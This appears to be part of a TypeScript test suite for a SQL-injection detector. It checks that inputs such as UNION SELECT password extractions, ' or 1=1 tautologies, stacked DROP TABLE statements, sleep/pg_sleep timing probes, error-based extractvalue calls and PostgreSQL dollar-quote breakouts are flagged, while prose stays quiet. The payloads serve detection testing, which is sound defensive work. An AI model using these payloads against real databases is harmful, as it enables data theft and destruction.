  t.equal(rule(pad), '-');
  t.equal(rule(lt), '-');
  t.equal(rule(pad + ' selection unions ordered'), '-');
  // Each kind of mark, after the dead start, still leads to the finding.
  t.equal(rule(pad + ' UNION SELECT password FROM users--'), 'sqli.union/high');
  t.equal(rule(pad + ' uNiOn sElEcT 1--'), 'sqli.union/high');
  t.equal(rule(pad + ' x or 1=1--'), 'sqli.tautology/high');
  t.equal(rule(lt + '; drop table users--'), 'sqli.stacked/high');
  t.equal(rule(lt + ' or sleep(5)#'), 'sqli.time/high');
  t.equal(rule(lt + '(select 1 from dual where sleep(5))'), 'sqli.time/high');
  t.equal(rule(lt + '/*!50000union*/ select 1--'), 'sqli.union/high');
  t.equal(rule(lt + '\\Nunion select 1--'), 'sqli.union/high');
  t.equal(rule(lt + ' \u00e9 union select 1--'), 'sqli.union/high');
});

t.test('comparison chains and comment-opener runs keep their verdicts', async (t) => {
  const rule = (s: string): string => {
    const d = detectSqlInjection(s);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  // One-letter words are read without a vocabulary look-up; two-letter keywords still end the chain.
  t.equal(rule('<a '.repeat(100)), 'sqli.boolean/low');
  t.equal(rule('<a '.repeat(100) + 'or 1=1--'), 'sqli.tautology/high');
  t.equal(rule('1 and a < b < c'), 'sqli.boolean/high');
  t.equal(rule('1 and a<b<or'), '-');
  t.equal(rule("x' and a = b < or"), '-');
  // A run of `/` and `*` is read at once by the pre-scan; what follows it is still read.
  t.equal(rule('/*'.repeat(200)), '-');
  t.equal(rule('/*'.repeat(200) + '*/ or 1=1--'), 'sqli.tautology/high');
  t.equal(rule('id=/*/*/*/ or 1=1--'), 'sqli.tautology/high');
  t.equal(rule('1 /*/*/**/ or 1=1'), 'sqli.tautology/high');
});

t.test('the engine mask answers for the gate only: verdicts are those without it', async (t) => {
  // Every positive of this suite, read with the mask the engine passes: still high (a mask that
  // skipped too much would drop the ones whose trigger character is the mask's).
  for (const [name, v] of POSITIVE) {
    t.equal(detectSqlInjection(v, charMask(v))?.confidence, 'high', `${name} with its mask`);
  }
  for (const v of ["Jane O'Neil", '+1 (555) 010-0000', 'a#1', 'x=1', '1 or 1=1', '(1)', 'x;y', 'a!b', '`x`', 'a<b', 'a>b']) {
    t.same(detectSqlInjection(v, charMask(v)), detectSqlInjection(v), JSON.stringify(v));
  }
});

t.test('space runs: what follows the padding is still read', async (t) => {
  for (const pad of [1, 2, 40, 300]) {
    const sp = ' '.repeat(pad);
    t.same(detectSqlInjection(`1${sp}--`), detectSqlInjection('1 --'), `1, ${pad} spaces, --`);
    t.equal(detectSqlInjection(`x${sp}'${sp}or${sp}'1'='1`)?.confidence, 'high', `${pad} spaces around a tautology`);
    t.equal(detectSqlInjection(`Leave it at the door${sp}union${sp}select${sp}password from users--`)?.rule, 'sqli.union', `${pad} spaces, union`);
  }
  t.equal(detectSqlInjection('Leave it at the door, please.' + ' '.repeat(54)), undefined, 'padded note');
});

t.test('a dead walk starts over at a late SYNC word in any case (syncMark)', async (t) => {
  const cases: Array<[string, string]> = [
    ['see you soon, thanks a lot UNION SELECT password FROM users', 'sqli.union'],
    ['see you soon, thanks a lot UnIoN sElEcT password FROM users', 'sqli.union'],
    ['great shop really nice stuff here Or 1=1', 'sqli.tautology'],
    ['lovely colours for sure xOR 1=1', 'sqli.tautology'],
    ['nice jersey. The Fit is great AND sleep(5)', 'sqli.time'],
  ];
  for (const [v, rule] of cases) {
    t.equal(detectSqlInjection(v)?.rule, rule, v);
    t.equal(detectSqlInjection(v)?.confidence, 'high', v);
  }
});

t.test('non-ASCII text: the gate reads every code unit by its class (quote, word, other)', async (t) => {
  const rule = (s: string): string => {
    const d = detectSqlInjection(s);
    const m = detectSqlInjection(s, charMask(s));
    t.same(m, d, `mask changes nothing: ${JSON.stringify(s.slice(-40))}`);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  // Varied tokens of the adversarial shapes: full-width and accented letters around `．` and `.`,
  // Unicode spaces, dashes, CJK punctuation, a lone surrogate. None of them is a trigger alone.
  const tokens = ['ａ．ｂ', 'Ｘｙ．ｚＺｚ', 'é.é', 'Àÿ.ßñ', 'Жλ', '中文。', 'é\u2014é', 'é\u00a0é', 'x\u3000y', '\ud83d\ude00', '\ud83d', 'a\u0080b'];
  const text = (k: number): string => {
    let s = '';
    for (let i = 0; i < k; i++) s += tokens[(i * 7) % tokens.length] + ' ';
    return s;
  };
  // A non-ASCII letter glued to a keyword makes one word with it (no keyword): the next one counts.
  t.equal(rule('éunion select password from users'), 'sqli.stacked/high', 'glued union');
  for (const k of [1, 5, 200]) {
    const pre = text(k);
    t.equal(rule(pre), '-', `${k} tokens alone`);
    // A keyword after them (separated by a space, a non-ASCII space, a dash, CJK punctuation) counts.
    t.equal(rule(pre + 'union select password from users'), 'sqli.union/high', `${k} tokens, union`);
    t.equal(rule(pre + '\u3000union select password from users'), 'sqli.union/high', `${k} tokens, ideographic space, union`);
    t.equal(rule(pre + 'é\u2014union select password from users'), 'sqli.union/high', `${k} tokens, em dash, union`);
    t.equal(rule(pre + 'waitfor delay 5'), 'sqli.time/high', `${k} tokens, waitfor`);
    // Non-ASCII spaces and punctuation end a word: the keyword after them is one.
    t.equal(rule(pre + 'é\u3000waitfor delay 5'), 'sqli.time/high', `${k} tokens, ideographic space, waitfor`);
    t.equal(rule(pre + 'é\u2014waitfor delay 5'), 'sqli.time/high', `${k} tokens, em dash, waitfor`);
    t.equal(rule(pre + 'ａ．waitfor delay 5'), 'sqli.time/high', `${k} tokens, full-width dot, waitfor`);
    // Typographic and full-width quotes are quotes: here the only trigger (no ASCII one, no bare keyword).
    for (const q of ['\u2019', '\uff07', '\u201d', '\u2032']) {
      t.equal(rule(`${pre}x${q} ALTER A`), 'sqli.stacked/high', `${k} tokens, quote U+${q.charCodeAt(0).toString(16)}`);
    }
    t.equal(rule(pre + 'x\u2019 or \u2019a\u2019 like \u2019a'), 'sqli.tautology/high', `${k} tokens, curly quotes`);
    t.equal(rule(pre + 'ｘ＇ or ＇1＇ like ＇1'), 'sqli.tautology/high', `${k} tokens, full-width quotes`);
  }
});

t.test('`::` casts: the pre-scan walks only for a type word glued after one, and keeps every verdict', async (t) => {
  // A `::` not followed by a PG_TYPES word is read by the pre-scan as a neutral operator (castIsNeutral),
  // so 1 MB of `::x`, `a::b ` or `::::` no longer runs the walks; verdicts are those of the build before
  // (a differential run against it on random strings of colons, casts, quotes and attack fragments).
  const cases: Array<[string, string | undefined]> = [
    ["'7'::int", 'sqli.expression/high'],
    ["'7'::INT", undefined],
    ["'7' ::int", undefined],
    ["'7':: int", undefined],
    ["'7'::::int", undefined],
    ["'7':::int", undefined],
    ['password::int', 'sqli.expression/high'],
    ['password::::int', undefined],
    ['k=v::int', 'sqli.expression/high'],
    ['k=v::x', undefined],
    ["'1'::oid", 'sqli.expression/high'],
    ["'1'::regclass", 'sqli.expression/high'],
    ["'1'::int4", 'sqli.expression/high'],
    ["'1'::int4x", undefined],
    ["'1'::int$", undefined],
    ["'1'::inté", undefined],
    ['(1)::int', 'sqli.expression/high'],
    ['1::int', 'sqli.expression/high'],
    ["1'::int--", 'sqli.expression/high'],
    ["x'::text or 1=1--", 'sqli.tautology/high'],
    ["x'||(select pw from users)::int--", 'sqli.error/high'],
    ["a::b + '7'::int", 'sqli.expression/high'],
    ["x::y::z + '1'::oid", 'sqli.expression/high'],
    ["v::text + '7'::int", 'sqli.expression/high'],
    ["x ::x + '1'::int", 'sqli.expression/high'],
    ["a::b:: '1'::int", 'sqli.expression/high'],
    ['x = \'1\'::int::text', 'sqli.expression/high'],
    ['std::string name;', undefined],
    ['a::oid', undefined],
    ["'7'::int " + '::x'.repeat(2000), 'sqli.expression/high'],
    ['::x'.repeat(2000) + " + '7'::int", 'sqli.expression/high'],
    ['::x'.repeat(2000) + "' or 1=1--", 'sqli.tautology/high'],
    ['::x'.repeat(2000), undefined],
    ['a::b '.repeat(2000), undefined],
    ['::'.repeat(3001) + "x' or 1=1--", 'sqli.tautology/high'],
    ['::'.repeat(2000) + "'7'::int", undefined],
    [':'.repeat(3001) + "'7'::int", undefined],
    ["'::'".repeat(2000), undefined],
    ["'::'".repeat(2000) + "' or 1=1--", 'sqli.tautology/high'],
    ['::::&'.repeat(2000), undefined],
  ];
  for (const [value, want] of cases) {
    for (const mask of [undefined, charMask(value)]) {
      const d = detectSqlInjection(value, mask);
      t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, `${JSON.stringify(value.slice(0, 40))} (${value.length})`);
    }
  }
});

t.test('runs of `#`, `&` and `|` after a `#`, and entity-like words, keep their verdicts', async (t) => {
  // The pre-scan reads a run of `#`, lone `&` and lone `|` after a `#` in one loop, and two-letter
  // words (`lt`, `gt`, `or`, `in`, `by`) from a table: same answers as the switch and kwFlags.
  const cases: Array<[string, string | undefined]> = [
    ['&#'.repeat(3000), undefined],
    ['#'.repeat(3000) + '1 or 1=1', undefined],
    ['&#'.repeat(3000) + '&&1=1', undefined],
    ['&lt;'.repeat(3000), undefined],
    ['&lt;'.repeat(3000) + "x' or 1=1--", 'sqli.tautology/high'],
    ['&#'.repeat(3000) + "x' or 1=1--", 'sqli.tautology/high'],
    ["'{\"a\":1}'#>'{a}'", 'sqli.json/high'],
    ['1#>1', 'sqli.boolean/low'],
    ['1 #- 1', 'sqli.boolean/low'],
    ['1 || true', 'sqli.tautology/high'],
    ["x' or 'a'='a", 'sqli.tautology/high'],
    ['1 OR 1=1', 'sqli.tautology/high'],
    ['1 in (select 1)', 'sqli.expression/medium'],
    ['order by 1', 'sqli.probe/high'],
    ['ORDER BY 1', 'sqli.probe/high'],
    ['1 is null', undefined],
  ];
  for (const [value, want] of cases) {
    const d = detectSqlInjection(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, `${JSON.stringify(value.slice(0, 40))} (${value.length})`);
  }
});

t.test('casts of literals to literals (read as one run by the walker) keep their verdicts', async (t) => {
  // `''::''::''…`: the walker reads `::` + literal pairs in one lexer loop (castRun); verdicts are those
  // of the token-by-token walk (checked against the build before it).
  const cases: Array<[string, string | undefined]> = [
    ["'a'::'b'::'c'", undefined],
    ["x' ::'a':: 'b' or 1=1--", 'sqli.tautology/high'],
    ["x'::''::'' or 1=1--", 'sqli.tautology/high'],
    ["'::'".repeat(2000) + " or 1=1--", 'sqli.tautology/high'],
    ["'::'".repeat(2000) + "::int", 'sqli.expression/high'],
    ["'7'::'x'::int", 'sqli.expression/high'],
    ["'7'::'x' ::int", undefined],
    ["'7'::'x'::'y'.int", undefined],
    ["x'::'a'::'b'::int--", 'sqli.expression/high'],
    ["(select 1)::'a'::int", 'sqli.expression/high'],
    ["'a'::'b'::text or 'a'='a", 'sqli.tautology/high'],
    ["1'::'x'--", 'sqli.expression/high'],
    ["1' :: 'x' --", 'sqli.expression/high'],
    ["'a'::\"b\"::'c' union select pw from users--", 'sqli.union/high'],
    ["'a'::'b", undefined],
    ["x'::'a'::'b'/**/::int--", 'sqli.expression/high'],
    ["x'::'a' -- c\n::int", undefined],
  ];
  for (const [value, want] of cases) {
    const d = detectSqlInjection(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, `${JSON.stringify(value.slice(0, 40))} (${value.length})`);
  }
});

t.test('backslashes, braces, brackets and leading calls the pre-scan reads as neutral keep their verdicts', async (t) => {
  // The pre-scan reads `\` (but `\N`), `}`, `{` before no word, `[` after no ARRAY and `]` below
  // MAX_DEPTH without literals or comments before it as neutral, and a leading digit run or `f(` before
  // a character that opens a token of its own as no leading close: 1 MB of `` `\'( ``, `\x(`, `%'\;`,
  // `-('\0`, `0(`, `[([(` no longer runs every walk. Verdicts are those of the build before (a
  // differential run against it on seeded strings of punctuation, units and attack fragments).
  const r = (u: string, k: number): string => u.repeat(k);
  const cases: Array<[string, string | undefined]> = [
    [r("`\\'(", 300), undefined],
    [r("-('\\0", 300), undefined],
    [r("%'\\;", 300), undefined],
    [r('\\x(', 300), undefined],
    [r("&{'", 300), 'sqli.expression/medium'],
    [r('0(', 300), undefined],
    [r('[([', 300), undefined],
    [']]]' + r(';;{', 100), undefined],
    [r('_($+', 200), undefined],
    ["x\\' or 1=1--", 'sqli.tautology/high'],
    ['\\N union select 1--', 'sqli.union/high'],
    ['\\Nunion select pw from users', 'sqli.union/high'],
    ['1 \\N or 1=1', 'sqli.tautology/high'],
    ["{fn concat('a','b')} or 1=1", 'sqli.tautology/high'],
    ["{d '2020-01-01'} = {d '2020-01-01'}", 'sqli.boolean/low'],
    ['{oj a} union select 1', 'sqli.union/high'],
    ["x'} or {'a'='a", 'sqli.tautology/high'],
    ['array[1] = array[1]', undefined],
    ['ARRAY [1,2]) or (1', 'sqli.boolean/low'],
    ["1array['a']", undefined],
    ["x' union select * from [sysobjects]--", 'sqli.union/high'],
    ['a[0] = a[0]', undefined],
    [r('(((((', 12) + ']', undefined],
    ['0(1) or 1=1', 'sqli.tautology/high'],
    ['count(*) from users', 'sqli.expression/low'],
    ['f()) or 1=1--', 'sqli.tautology/high'],
    ['x(/**/) or (1', 'sqli.expression/high'],
    ["x(') or '1'='1", 'sqli.tautology/high'],
    ['sleep(5)', 'sqli.time/high'],
    ["\\'}{'", undefined],
    // A typographic quote after 256 ASCII characters (the byteLength shortcut of walkContexts' quote
    // search must not hide it), and catalog identifiers (isCatalogIdent's first-letter test).
    ['size '.repeat(100) + 'x\u2019 or \u20191\u2019=\u20191', 'sqli.tautology/high'],
    ['size \u00e9 '.repeat(100) + 'x\u2019 or \u20191\u2019=\u20191', 'sqli.tautology/high'],
    ["x' union select 1 from `sysobjects`--", 'sqli.union/high'],
  ];
  for (const [value, want] of cases) {
    const d = detectSqlInjection(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, `${JSON.stringify(value.slice(0, 40))} (${value.length})`);
  }
  // A seeded table of such strings (single characters and fragments, some repeated), its verdicts
  // pinned by a digest taken on the build before the change: 829 findings of 4,000.
  const rnd = prng(20261130);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
  const PUNCT = [...'\'"`\\()[]{};:|&$%#@!*+-=<>/?.,~^_ 0ax1Nn', '\n', '\0', '\u2019'];
  const FRAGS = [' or 1=1', ' union select 1', '--', '#', '/*', '*/', '\\N', 'array[', '{fn ', '[a]', 'sleep(1)', 'f(', '0(', "'a'='a", ' and ', 'x=', ' from users', '@@version', '((((((((((((((((((((((((('];
  let h = 0x811c9dc5;
  let found = 0;
  for (let i = 0; i < 4000; i++) {
    let s = '';
    const len = 1 + Math.floor(rnd() * 16);
    while (s.length < len) s += rnd() < 0.75 ? pick(PUNCT) : pick(FRAGS);
    if (rnd() < 0.2) s = s.repeat(1 + Math.floor(rnd() * 40));
    const d = detectSqlInjection(s);
    const v = d === undefined ? '-' : `${d.rule}/${d.confidence}`;
    if (d !== undefined) found++;
    for (let k = 0; k < v.length; k++) h = Math.imul(h ^ v.charCodeAt(k), 16777619) >>> 0;
    h = Math.imul(h ^ 124, 16777619) >>> 0;
  }
  // (Session 19 round 2: 829 -> 834 findings, c17fe029 -> 4423a7c2: five values with `$$` now walked
  // as a breakout of a dollar-quoted literal, `$$  or 1=1`, `[0)-N and $$/*`, as `'` would be.)
  t.equal(found, 834, 'findings in the seeded table');
  t.equal(h.toString(16), '4423a7c2', 'digest of the seeded table verdicts');
});

t.test('numbers and braces through the lexer fast paths (round 2): verdicts pinned', async (t) => {
  // Digits go straight to readNumber and `{ } ]` to a one-character T_OTHER in the lexer's fast path,
  // and readNumber reads nothing past the end: values ending in a number (`=0=0`, `1e`, `9.`, `0x1f`)
  // and number forms glued to braces. A seeded table, its verdicts pinned by a digest taken on the build
  // before the change (773 findings of 3,000); a planted change to readNumber's end test moved it.
  const rnd = prng(20261201);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
  const UNITS = ["&{'", '=0', '("%<', '"?', '(0~', '~$)', '{=;?', '(`]', '}{', ']}', '0x1f', '1e5', '1.e3', '.5', '1union', '6ca2o', '0b1', '1e+', '9.', '1e'];
  const FRAGS = [' or 1=1', ' union select 1', '--', '#', '/*', '\\N', '{fn ', 'sleep(1)', "'a'='a", ' and ', 'x=', '@@version', ' 1 ', "' or 1=1--"];
  let h = 0x811c9dc5;
  let found = 0;
  for (let i = 0; i < 3000; i++) {
    let s = '';
    const len = 1 + Math.floor(rnd() * 5);
    while (s.length < len) s += rnd() < 0.6 ? pick(UNITS) : pick(FRAGS);
    if (rnd() < 0.4) s = s.repeat(1 + Math.floor(rnd() * 30));
    if (rnd() < 0.5) s += pick(UNITS);
    const d = detectSqlInjection(s);
    const v = d === undefined ? '-' : `${d.rule}/${d.confidence}`;
    if (d !== undefined) found++;
    for (let k = 0; k < v.length; k++) h = Math.imul(h ^ v.charCodeAt(k), 16777619) >>> 0;
    h = Math.imul(h ^ 124, 16777619) >>> 0;
  }
  t.equal(found, 773, 'findings in the seeded table');
  t.equal(h.toString(16), 'a956745e', 'digest of the seeded table verdicts');
});

/**
 * Operator chains (session 17): strings of operands joined by one-character comparison, arithmetic
 * and logical operators (`1=1=1`, `a=1a=1`, `'-'-'`, `&{'&{'`, `' or '' or '`, `1||1||`, `1#1#` in the standard reading), with
 * prefixes that break out, open calls or lists, and endings that comment, cast or continue. The
 * walker reads such runs in opChain; every verdict is the token path's. Generated here (seeded),
 * verdicts pinned by a digest taken on the build before opChain.
 */
function chainTable(seed: number, count: number): string[] {
  const rnd = prng(seed);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
  const OPS = ['=', '<', '>', '~', '#', ' # ', '+', '-', '*', '/', '%', '^', '&', '|', ' or ', ' and ', ' OR ', ' xor ', '||', '&&', ' between 1 and ', '<=', '<>', '::', '--', '/*', '~', '!=', ','];
  const OPNDS = ['a', 'col', '_', '1', '0', '42', "'a'", "'1'", "''", '"b"', '\'{"a":1}\'', "'[1]'", "{'x'", '{ 1', '{a', '1a', '2nd', '0x1', '0b1', '1e5', '1union', '1or', 'or', 'select', 'null', 'int', 'jsonb', "'", '"', "'it''s'", "'a\\'b'", 'f(1)', '(1)', 'a.b', "N'x'", '@v', '@@version', 'like', '\u00e9', 'sleep(5)'];
  const PRE = ['', '', "x'", 'admin"', '1 ', 'order by ', 'select ', "' or ", "1' and ", '(', "')", 'id=', 'values (1, ', 'f(', 'case when ', '; ', "x')"];
  const SUF = ['', '', ' # x', '--', '-- -', '#', '/*', ')', ';', '::int', "'", ' from t', ' and 1', '.x', '(1)', ' or 1=1', '\0'];
  const SP = ['', '', ' ', '  ', '\t'];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let s = pick(PRE) + (rnd() < 0.15 ? '' : pick(OPNDS));
    const k = Math.floor(rnd() * (rnd() < 0.08 ? 120 : 7));
    for (let j = 0; j < k; j++) s += pick(SP) + (rnd() < 0.85 ? pick(OPS.slice(0, 20)) : pick(OPS)) + pick(SP) + pick(OPNDS);
    out.push(s + pick(SUF));
  }
  return out;
}

t.test('operator chains (opChain): verdicts pinned', async (t) => {
  const cases: Array<[string, string | undefined]> = [
    ['1='.repeat(300), undefined],
    ['a=1'.repeat(200), undefined],
    ["&{'".repeat(300), 'sqli.expression/medium'],
    ["' or '".repeat(200), 'sqli.tautology/high'],
    ["x' or 1 or '1'='1", 'sqli.tautology/high'],
    ["x' or 'a' = 'a' or 'b", 'sqli.tautology/high'],
    ['1 || 1=1', 'sqli.tautology/high'],
    ["1' and 1 between 1 and 2 and '1'='1", 'sqli.tautology/high'],
    ['1 between 1 and 2', undefined],
    ["x' = 1a = 1union select 1--", 'sqli.union/high'],
    ["x'='[1]'::jsonb--", 'sqli.expression/high'],
  ];
  for (const [value, want] of cases) {
    const d = detectSqlInjection(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, `${JSON.stringify(value.slice(0, 40))} (${value.length})`);
  }
  let found = 0;
  const keys = chainTable(20261130, 6000).map((s) => {
    const d = detectSqlInjection(s);
    if (d !== undefined) found++;
    return verdictKey(d);
  });
  t.equal(found, 3047, 'findings in the seeded chain table');
  // Session 21 (red team round 4): two verdicts changed, both values that close a quote, start with
  // OR and end in a `#` glued to an operand with nothing after it, now sqli.comment high (bareTailHash):
  // `' or 1  -  or#` (was boolean low) and `" or 1a  *  1a&  '[1]' /* @@version#` (was boolean high).
  // A differential against the previous build (36k chain strings) found only such changes and
  // numeric `n or n` + bare comment (tautology high).
  // Session 22 (red team round 5): 15 verdicts changed, all values that end in `;` after a closed
  // quote (the `;` ends the statement for SQLite's exec and MySQL multi-statements, endOk): `' or ''
  // *0x1;` boolean medium -> tautology high, `1' and 'it''s';` boolean medium -> expression high, 4
  // none -> low/medium/high. A differential against the previous build over 36k chain strings (seeds
  // 1-6) changed 84 verdicts, 83 of them such values.
  t.equal(verdictDigest(keys), '71efd164', 'digest of the seeded chain table verdicts');
});

t.test('every word the lexer splits off a digit run is in the walker vocabulary (opChain relies on it)', async (t) => {
  // opChain reads `1a` as one word unless its tail after the digits is a vocabulary word: that covers
  // every tail readNumber splits off (`1union`, `0or`) only while all of them are in the vocabulary.
  for (const w of SPLIT_AFTER_DIGITS) t.ok(isSqlVocabulary(w), w);
});

// PostgreSQL's `U&'…'` (and `U&"…"`) is one Unicode-escape literal to the lexer; the walker's
// operator-chain fast path read it as the word `u`, the operator `&` and a literal, so a tautology of
// such literals lost its finding (found by a review of this session's fast paths). Verdicts as the
// build before the fast path gave them; the chain now leaves `u&'` to the token path.
t.test("U&'…' literals inside operator chains keep the verdicts the token path gives", async (t) => {
  const cases: Array<[string, string]> = [
    ["1=u&'1'--", 'sqli.expression/high'],
    ["1 u&'' or u&''=u&''", 'sqli.tautology/high'],
    ["1;or 1=u&'1'", 'sqli.tautology/high'],
    ["'u&'1'=u&'1'#", 'sqli.expression/high'],
    ["1 or u&'1'=1'", 'sqli.tautology/high'],
    ["x' or u&'1'=u&'1''", 'sqli.tautology/high'],
    ["x' or 1|u&'1'", 'sqli.boolean/medium'],
    ["1=u&'1'", 'sqli.boolean/low'],
    ["1) or u&'a'=u&'a'--", 'sqli.tautology/high'],
    ["admin' or u&'1'=u&'1'#", 'sqli.tautology/high'],
    ["1=U&'1'--", 'sqli.expression/high'],
    ['1 or U&"x"=U&"x"--', 'sqli.tautology/high'],
    ["x'or u&\"a\"-u&\"a\"'", '-'],
  ];
  for (const [v, want] of cases) {
    for (const d of [detectSqlInjection(v), detectSqlInjection(v, charMask(v))]) {
      t.equal(d === undefined ? '-' : `${d.rule}/${d.confidence}`, want, JSON.stringify(v));
    }
  }
});

t.test('a $$-quoted literal broken out of, and a backticked MySQL function, are walked (session 19, round 2)', async (t) => {
  const high = [
    '$$;select pg_sleep(5);--',
    '$$||pg_sleep(5)||$$',
    '$$ union select password from users--',
    '$$;drop table users;--',
    '$$ and 1=1--',
    '1 AND`SLEEP`(5)',
    '1 AND `sleep`(5)',
    "1' AND `SLEEP`(5)-- ",
    "' or `sleep`(5) or '",
    '1 and `extractvalue`(1,concat(0x7e,version()))',
    "1 and `updatexml`(1,concat(0x7e,user()),1)",
  ];
  for (const v of high) {
    const d = detectSqlInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  const notHigh = [
    'price $$ ; select your size',
    'The formula $$ x = 1 $$ or $$ y = 2 $$',
    '$$(".item").each(fn) -- old prototype code',
    'I paid $$ for this; select wisely',
    'Display math: $$\\sum_{i=1}^n i = n(n+1)/2$$ or inline',
    'Use `sleep`(5) to wait a bit',
    'see `sleep`(seconds) in the docs',
    // BENCHMARK is a keyword of MySQL's grammar: quoted, it names no function.
    '1 AND `benchmark`(9e6,md5(1))',
    'select `sleep` from t',
  ];
  for (const v of notHigh) {
    const d = detectSqlInjection(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.match(detectSqlInjection('$$;select pg_sleep(5);--')?.reason, /after closing a \$\$-quoted literal/);
});

t.test('`$$` breakouts and backticked functions: verdicts pinned on a seeded table (session 19, round 2)', async (t) => {
  // Compared offline with the build before on this table (205 of 6,000 verdicts changed, none down)
  // and on 100k mixtures (`$$`, backticks,
  // sleep, quotes, prose): every change is a new finding in a value with `$$` walked as a breakout
  // of a dollar-quoted literal, or with `` `sleep`( `` / `` `extractvalue`( `` read as the call. A
  // tail after `$$` never reads stronger than the same tail after `'` there, but the two are not
  // equal (a login-like literal before `'--` is high, `#` is read apart), so the table is pinned.
  const rnd = prng(19191);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
  const PIECES = [...'"`()[]{};:|&%#@!*+-=<>/?.,~^_ 0ax1$\'', '\n', '$$', '$$', '$a$', ' or 1=1', ' union select 1', '--', '#', '/*', '*/', 'sleep(1)', 'pg_sleep(5)', '`sleep`(5)', '`SLEEP`(', '`extractvalue`(1,', '`benchmark`(', '`sleep`', ';select ', ' and ', 'x=', ' from users', 'the price', 'admin', ' or ', '1'];
  const keys: string[] = [];
  let found = 0;
  for (let i = 0; i < 6000; i++) {
    let v = '';
    const len = 1 + Math.floor(rnd() * 12);
    while (v.length < len) v += pick(PIECES);
    const d = detectSqlInjection(v);
    if (d !== undefined) found++;
    keys.push(verdictKey(d));
  }
  // (Session 20: 1297 -> 1310 findings, 1f23c5b -> 90b55a5c: 16 verdicts changed, each to high: 14 in
  // a value with a `$a$` tag (`$a$;pg_sleep(5)`, `!$a$ or 1=1`), 2 in a value that starts with `$$`
  // and a comment (`$$/*`, `$$-- or `: as `'/*`, `'-- or ` read), compared with f2d1800 offline.)
  t.equal(found, 1310, 'findings in the table');
  t.equal(verdictDigest(keys), '90b55a5c', 'verdicts of the table pinned');
});

t.test('tagged dollar quotes broken out of are walked (session 20)', async (t) => {
  // `$tag$<value>$tag$` is broken out of by the first `$tag$` in the value, as `$$<value>$$` by `$$`.
  // Base f2d1800 allowed every one of these.
  const high = [
    '$tag$;select pg_sleep(5);--',
    '$a$;select pg_sleep(5);--',
    '$a$ or 1=1--',
    '$a$ union select password from users--',
    '$a$;drop table users;--',
    '$body$||pg_sleep(5)||$body$',
    '$_q1$ and 1=1--',
    // Other tags first (each reads the next as a literal): the value without its tags is read too.
    '$x$ $q$;select pg_sleep(5)--',
    '$x$ $y$ $z$ $w$ $q$;select pg_sleep(5)--',
    '$x$;$y$;$q$ union select password from users--',
    // ... also without a statement, UNION or parenthesis after the application's tag (up to four
    // other tags first: a walk after each next tag's first occurrence).
    '$x$ $q$||pg_sleep(5)--',
    '$a$ $b$ $c$ $d$ $q$||pg_sleep(5)--',
  ];
  for (const v of high) {
    const d = detectSqlInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  // Prices, templates, shell variables: no finding at all (tag walks report high verdicts only).
  const quiet = [
    '$5$',
    'price $5$ each',
    '$USD$',
    'Total: $USD$ or $EUR$ accepted',
    '$var$ and $other$ in prose',
    'I like $x$ and $y$ or so',
    '$HOME$PATH',
    'Use $name$ or $title$ = value',
    'Pay $USD$ 5 or $EUR$ 4; select one',
    '$body$ BEGIN RETURN 1; END $body$',
    'Template $first$ $last$, select one',
  ];
  for (const v of quiet) {
    const d = detectSqlInjection(v);
    t.equal(d, undefined, `quiet: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.match(detectSqlInjection('$a$;select pg_sleep(5);--')?.reason, /after closing a dollar-quoted literal/);
});

t.test('the literal before a dollar-quote breakout is read as the application\'s (session 20)', async (t) => {
  // `$$ or true--` is PostgreSQL's tautology (OR needs a boolean there: `or 1` is an error), as
  // `' or true--` is; the literal before the `$$` was read with the delimiter's `$`, neither blank nor
  // login-like, so the rule that catches `' or true--` did not apply. Base f2d1800 allowed these.
  for (const v of ['$$ or true--', '$a$ or true--', '$$ or not false--', '$q$ or true/*', 'admin$$--', 'admin$q$;', 'admin$$ or true--']) {
    const d = detectSqlInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  // `#` is XOR to PostgreSQL, no comment; prose and formulas with `$$` stay as they were.
  for (const v of ['x$$#,', 'admin$q$#', '$$ -- old code', 'The formula $$ x = 1 $$ or $$ y = 2 $$', 'I paid $$ for this; select wisely']) {
    const d = detectSqlInjection(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('walks after a dollar quote start over only where it can matter: same verdicts as always starting over (session 20)', async (t) => {
  // 1 MB of `$$;x`: the `$$` walk died and started over at every `;` (the detector ~80 µs/KB, prose
  // ~11). It now starts over only when lastMark finds a word or character that a restarted walk
  // needs after its start. The reference: DOLLAR_WALKS_FOR_TEST.restart (always start over, and the
  // walk past decoy tags ungated). Pieces: what the lexer and walker read specially (dollar quotes
  // and tags, `$1`, comments of every dialect, `\N`, escapes, casts, variables, glued keywords,
  // digits before keywords, non-ASCII, literal prefixes) and attack fragments. Offline, 400k values
  // of this alphabet: no difference with the reference. (Planted: KW_CALL dropped from lastMark's
  // words: 11 differences in 100k, `$$;x;pg_sleep(5)`; KW_CASE missing: `-$q$*CASE WHEN…`.)
  const rnd = prng(20201130);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
